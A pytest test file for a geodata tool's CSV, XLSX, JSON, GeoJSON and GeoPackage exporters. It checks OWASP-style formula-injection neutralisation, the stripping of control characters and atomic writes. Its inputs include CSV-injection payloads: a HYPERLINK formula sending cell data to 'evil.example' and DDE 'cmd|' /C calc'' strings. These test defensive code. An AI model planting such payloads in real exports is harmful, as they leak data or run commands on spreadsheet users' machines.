"""Issue 16, items 3 and 6: exports never run a name as a formula, never fail on a character a
file cannot hold, and are written whole or not at all.

Formula injection follows OWASP's CSV-injection guidance: text starting with ``=``, ``+``, ``-``,
``@``, tab or CR is written with a leading ``'`` in CSV, and as a text cell with Excel's quote
prefix in XLSX; numbers stay numbers. Control characters and lone surrogates are left out at
write time, so a plan imported from elsewhere cannot break an export.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import replace
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely

from conftest import facilities_csv, facility_rows, write_world
from geodata import filing
from geodata.export import (atomic_path, inert_text, write_csv, write_geojson, write_gpkg, write_json, write_layout,
                            write_xlsx)

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "甲\x01区", "乙\x00\x1f区", "丙\ud800区", "plain"]


def _table() -> pd.DataFrame:
    return pd.DataFrame({"name": pd.Series(HOSTILE, dtype=object), "number": [-3.5, 1.0, -2.0, 0.0, 5.5, 6.0, 7.0, 8.0, 9.0, 10.0],
                         "count": list(range(-5, 5))})


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".part" in p.name)


# --- CSV -----------------------------------------------------------------------------------------

def test_csv_writes_formula_like_text_after_a_quote_and_numbers_as_numbers(tmp_path):
    write_csv(_table(), tmp_path / "sites.csv")
    text = (tmp_path / "sites.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    names = [r["name"] for r in rows]
    for name in names:
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r")), name  # no cell a spreadsheet would run
    assert names[0] == "'" + HOSTILE[0] and names[1] == "'+1+2" and names[3] == "'@SUM(A1:A9)"
    assert names[4] == "'\t=1+1" and names[5] == "'\n=1+1"  # a CR is a quoted line feed: no new row at it
    assert "\r" not in text
    assert names[6:] == ["甲区", "乙区", "丙区", "plain"]  # control characters and the lone surrogate left out
    assert [r["number"] for r in rows][:3] == ["-3.5", "1.0", "-2.0"]  # numbers stay numbers, unquoted
    assert [r["count"] for r in rows][:2] == ["-5", "-4"]
    assert "'-3.5" not in text and "'-5" not in text
    assert _leftovers(tmp_path) == []


def test_inert_text_is_the_owasp_rule():
    assert [inert_text(s) for s in ("=1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "", "1-2")] == \
        ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\nx", "a=1", "", "1-2"]
    assert inert_text("a\r=1+1") == "a\n=1+1" and inert_text("a\r\nb") == "a\nb"


def test_csv_leaves_the_frame_it_was_given_as_it_was(tmp_path):
    frame = _table()
    before = frame.copy()
    write_csv(frame, tmp_path / "a.csv")
    pd.testing.assert_frame_equal(frame, before)


# --- XLSX ----------------------------------------------------------------------------------------

def test_xlsx_has_no_formula_cells_and_marks_formula_like_text(tmp_path):
    frame = _table()
    frame.columns = ["=name", "number", "count"]  # a hostile column name too
    write_xlsx(tmp_path / "plan.xlsx", {"=sheet\x01": frame})
    book = openpyxl.load_workbook(tmp_path / "plan.xlsx")
    sheet = book.worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = [sheet.cell(r, 1).value for r in range(2, 2 + len(HOSTILE))]
    assert names[:6] == [h.replace("\r", "\n") for h in HOSTILE[:6]]  # the text as it is, never run (XML reads CR as LF)
    assert names[6:] == ["甲区", "乙区", "丙区", "plain"]
    for r in range(2, 8):
        assert sheet.cell(r, 1).data_type == "s" and sheet.cell(r, 1).quotePrefix, r
    assert not sheet.cell(11, 1).quotePrefix  # plain text is plain
    assert sheet.cell(1, 1).value == "=name" and sheet.cell(1, 1).data_type == "s"
    assert [sheet.cell(r, 2).value for r in (2, 4)] == [-3.5, -2.0] and sheet.cell(2, 2).data_type == "n"
    assert sheet.cell(2, 3).value == -5 and sheet.cell(2, 3).data_type == "n"
    # what Excel reads: no <f> element anywhere in the workbook
    with zipfile.ZipFile(tmp_path / "plan.xlsx") as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(member) and b"<f " not in archive.read(member)


# --- JSON, GeoJSON, GeoPackage -------------------------------------------------------------------

def test_json_layout_geojson_and_gpkg_take_control_characters_and_lone_surrogates(tmp_path):
    data = {"plan_name": "方案\ud800\x01", "notes": ["=1+1"]}
    write_json(data, tmp_path / "checks.json")
    write_layout({"type": "FeatureCollection", "features": [], "metadata": data}, tmp_path / "layout.geojson")
    assert json.loads((tmp_path / "checks.json").read_text(encoding="utf-8"))["plan_name"] == "方案\x01"
    assert json.loads((tmp_path / "layout.geojson").read_text(encoding="utf-8"))["metadata"]["notes"] == ["=1+1"]
    frame = gpd.GeoDataFrame({"name": pd.Series(["甲\x01区", "乙\ud800区"], dtype=object), "population": [-1.5, 2.0]},
                             geometry=[shapely.Point(121, 31), shapely.Point(121.1, 31.1)], crs=4326)
    write_geojson(frame, tmp_path / "grids.geojson")
    write_gpkg(tmp_path / "plan.gpkg", {"grids": frame, "table": pd.DataFrame({"name\x02": ["x\x03"]})},
               metadata={"plan_name": "名\x01称", "settings": {"a": "\ud800"}})
    back = pyogrio.read_dataframe(tmp_path / "grids.geojson")
    assert back["name"].tolist() == ["甲区", "乙区"] and back["population"].tolist() == [-1.5, 2.0]
    assert pyogrio.read_dataframe(tmp_path / "plan.gpkg", layer="grids")["name"].tolist() == ["甲区", "乙区"]
    assert pyogrio.read_dataframe(tmp_path / "plan.gpkg", layer="table").columns.tolist() == ["name"]
    assert frame["name"].tolist() == ["甲\x01区", "乙\ud800区"]  # the caller's frame untouched
    assert _leftovers(tmp_path) == []


# --- atomic writes -------------------------------------------------------------------------------

def test_atomic_path_renames_on_success_only_and_leaves_no_temporary_file(tmp_path):
    target = tmp_path / "plan.xlsx"
    with atomic_path(target) as tmp:
        assert tmp.parent == tmp_path and tmp.suffix == ".xlsx" and tmp != target
        tmp.write_bytes(b"first")
        assert not target.exists()  # nothing at the name until the writer is done
    assert target.read_bytes() == b"first"
    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
        tmp.write_bytes(b"half")
        raise RuntimeError("disk full")
    assert target.read_bytes() == b"first"  # the old file, whole
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx"]


def test_a_writer_that_fails_leaves_neither_a_partial_file_nor_a_temporary_one(tmp_path, monkeypatch):
    import openpyxl.workbook.workbook as wb

    def broken_save(self, filename):
        Path(filename).write_bytes(b"PK\x03\x04 half a workbook")
        raise OSError("No space left on device")

    monkeypatch.setattr(wb.Workbook, "save", broken_save)
    with pytest.raises(OSError):
        write_xlsx(tmp_path / "plan.xlsx", {"a": _table()})
    assert list(tmp_path.iterdir()) == []
    monkeypatch.setattr(pd.DataFrame, "to_csv", lambda self, path, **kw: (Path(path).write_text("x,"),
                                                                          (_ for _ in ()).throw(OSError("full"))))
    (tmp_path / "sites.csv").write_text("old\n", encoding="utf-8")
    with pytest.raises(OSError):
        write_csv(_table(), tmp_path / "sites.csv")
    assert (tmp_path / "sites.csv").read_text(encoding="utf-8") == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["sites.csv"]


def test_a_gpkg_whose_second_layer_fails_leaves_nothing(tmp_path, monkeypatch):
    real = pyogrio.write_dataframe

    def full_disk(frame, path, layer=None, **kw):
        real(frame, path, layer=layer, **kw)
        if layer == "pairings":
            raise OSError("No space left on device")

    monkeypatch.setattr(pyogrio, "write_dataframe", full_disk)
    good = gpd.GeoDataFrame({"name": ["a"]}, geometry=[shapely.Point(121, 31)], crs=4326)
    (tmp_path / "plan.gpkg").write_bytes(b"the last good one")
    with pytest.raises(OSError):
        write_gpkg(tmp_path / "plan.gpkg", {"grids": good, "pairings": pd.DataFrame({"x": ["y"]})})
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.gpkg"]
    assert (tmp_path / "plan.gpkg").read_bytes() == b"the last good one"


def test_a_filing_zip_whose_member_fails_is_not_left_behind(tmp_path, monkeypatch):
    """The CLI left a half-written ZIP that opened fine: now a member's failure leaves no ZIP."""
    def write(export, kind, path):
        if kind == "xlsx":
            raise ValueError("IllegalCharacterError")
        Path(path).write_text(kind, encoding="utf-8")
        return path

    monkeypatch.setattr(filing, "write", write)
    export = type("E", (), {"meta": {"plan_id": "p", "version": 1}})()
    with pytest.raises(ValueError):
        filing.write_filing_zip(export, tmp_path / "filing.zip")
    assert list(tmp_path.iterdir()) == []
    (tmp_path / "filing.zip").write_bytes(b"the last good one")
    with pytest.raises(ValueError):
        filing.write_filing_zip(export, tmp_path / "filing.zip")
    assert (tmp_path / "filing.zip").read_bytes() == b"the last good one"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["filing.zip"]


# --- a whole export of a plan whose names are hostile ----------------------------------------------

@pytest.fixture(scope="module")
def hostile_export(tmp_path_factory):
    """The small world with formula-like names from the files, then control characters and a lone
    surrogate put into the loaded tables (as a plan imported from elsewhere could bring them)."""
    from geodata.filing import build
    from geodata.package import load_package
    from planning.session import PlanningSession

    folder = write_world(tmp_path_factory.mktemp("hostile"))
    rows = facility_rows()
    rows[0]["name"] = '=HYPERLINK("http://evil.example/"&A1;"click")'
    rows[1]["name"] = "+cmd|' /C calc'!A0"
    rows[2]["name"] = "@SUM(1;2)"
    (folder / "facilities.csv").write_text(facilities_csv(rows), encoding="utf-8")
    package = load_package(folder)
    facilities = package.facilities.copy()
    facilities.loc[facilities["facility_code"] == "CHC-A", "name"] = "社区\x01中心\x7f"
    districts = package.districts.copy()
    districts["district_name"] = ["-甲区\x02", "乙\x1f区"]
    package = replace(package, facilities=facilities, districts=districts)
    session = PlanningSession(package)
    plan = session.propose().plan
    meta = {"plan_id": "evil", "plan_name": "=1+1\x01\ud800", "version": 1, "author": "@me", "created": "2026-12-02T00:00:00+00:00"}
    return build(session, plan, meta)


def test_xlsx_and_csv_of_a_hostile_plan(hostile_export, tmp_path):
    path = filing.write(hostile_export, "xlsx", tmp_path / "plan.xlsx")
    book = openpyxl.load_workbook(path)
    formulas = [f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    texts = [c for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value.startswith("=HYPERLINK") for c in texts)  # the name is there, as text
    for c in texts:
        assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in c.value), c.coordinate
        if c.value.startswith(("=", "+", "-", "@")):
            assert c.data_type == "s" and c.quotePrefix, c.coordinate
    rows = filing.write(hostile_export, "csv", tmp_path / "units.csv").read_text(encoding="utf-8").splitlines()
    assert rows[0] == "unit_code,grid_id" and len(rows) == 1 + len(hostile_export.plan.assignment)
    assert _leftovers(tmp_path) == []


def test_geojson_gpkg_and_checks_of_a_hostile_plan(hostile_export, tmp_path):
    for kind, name in (("geojson", "layout.geojson"), ("gpkg", "plan.gpkg"), ("checks", "plan.checks.json")):
        filing.write(hostile_export, kind, tmp_path / name)
    layout = json.loads((tmp_path / "layout.geojson").read_text(encoding="utf-8"))
    assert layout["metadata"]["plan_name"] == "=1+1\x01"  # JSON holds it (escaped), the lone surrogate left out
    facilities = pyogrio.read_dataframe(tmp_path / "plan.gpkg", layer="facilities")
    assert "社区中心\x7f" in facilities["name"].tolist()  # DEL is no XLSX problem: kept
    assert _leftovers(tmp_path) == []


def test_the_filing_zip_of_a_hostile_plan_is_whole_and_holds_no_formula(hostile_export, tmp_path):
    """Control characters made the XLSX, and so the filing ZIP, fail with IllegalCharacterError."""
    path = filing.write(hostile_export, "filing", tmp_path / "filing.zip")
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        assert sorted(n.split(".", 1)[1] for n in names) == ["checks.json", "csv", "geojson", "pdf", "xlsx"]
        book = openpyxl.load_workbook(io.BytesIO(archive.read(next(n for n in names if n.endswith(".xlsx")))))
        assert [c for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"] == []
        for name in names:
            if name.endswith(".csv"):
                assert not any(line.split(",")[-1].startswith(("=", "+", "-", "@"))
                               for line in archive.read(name).decode("utf-8").splitlines())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["filing.zip"]
